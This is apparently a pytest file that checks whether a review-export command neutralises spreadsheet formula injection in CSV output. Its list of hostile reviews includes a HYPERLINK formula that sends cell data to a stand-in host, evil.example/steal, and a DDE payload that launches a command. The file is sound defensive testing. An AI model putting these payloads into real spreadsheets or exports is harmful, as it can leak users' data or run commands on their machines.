"""`copybot reviews --out labels.csv`: the file a marketer opens in a spreadsheet."""

from __future__ import annotations

import csv

from tests.processes import run_copybot

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for a refund")',
    "+1 great value, would buy again",
    "-2 stars from me, the strap broke",
    "@SUM(1+1)*cmd|' /C calc'!A0 nice colour",
]
PLAIN = "Lovely bottle, keeps tea hot all day"


async def test_exported_cells_never_start_a_spreadsheet_formula(cli_env, tmp_path):
    reviews = tmp_path / "reviews.csv"
    with reviews.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["review", "rating"])
        for text in HOSTILE + [PLAIN]:
            writer.writerow([text, "4"])
    out = tmp_path / "labels.csv"
    code, stdout, stderr = await run_copybot("reviews", str(reviews), "--out", str(out), env=cli_env)
    assert code == 0, stderr
    assert f"Per-review labels written to {out}" in stdout

    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    texts = [row["text"] for row in rows]
    # Each hostile review is still there, word for word, but shown as text: a leading quote.
    assert texts == ["'" + text for text in HOSTILE] + [PLAIN]
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
